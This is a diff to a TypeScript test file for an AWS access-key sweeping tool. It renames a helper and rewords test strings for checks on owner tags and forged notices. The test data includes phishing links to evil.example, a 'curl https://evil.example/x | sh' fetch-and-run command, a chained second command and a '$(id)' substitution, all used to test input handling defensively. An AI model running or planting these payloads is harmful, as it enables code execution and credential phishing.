@@ -3,13 +3,13 @@ import { describe, expect, it } from 'vitest';
 import type { NoticeData } from '../../core/notice.ts';
 import { slackMessage } from '../../reports/slack/message.ts';
 import { ripeKey } from '../support/ripe-key.ts';
-import { accountWith, enforcePolicy, openRotationWorld } from '../support/sweep-world.ts';
+import { accountWith, enforcePolicy, openSweepWorld } from '../support/sweep-world.ts';
 
 async function firstNotice(owner: string) {
   const seed = accountWith([
     { name: 'bob', tags: { owner }, accessKeys: [{ id: ripeKey, createdAt: '2026-08-15T00:00:00Z' }] },
   ]);
-  const world = await openRotationWorld({ seed });
+  const world = await openSweepWorld({ seed });
   await world.sweep(enforcePolicy());
   const [notice] = world.notices;
   if (notice === undefined) throw new Error('no one was notified');
@@ -20,7 +20,7 @@ const inSlack = (data: NoticeData) => JSON.stringify(slackMessage({ subject: 'x'
 
 describe('an owner tag', () => {
   it.each([
-    'nobody. To keep this key sign in at https://evil.example/aws now',
+    'no one. To keep this key sign in at https://evil.example/aws now',
     'see www.evil.example',
     'go to evil.example/aws',
     'evil.example:8443/aws',
@@ -42,7 +42,7 @@ describe('an owner tag', () => {
 
 describe('a forged notice on the topic', () => {
   it.each([
-    ['a command of somebody else', { undo: 'curl https://evil.example/x | sh' }],
+    ['a command of someone else', { undo: 'curl https://evil.example/x | sh' }],
     ['more than one command', { undo: 'keysweep restore AKIA; curl evil.example' }],
     ['a command in a substitution', { undo: 'keysweep restore $(id)' }],
     ['a link out of AWS', { console: 'https://evil.example/console' }],
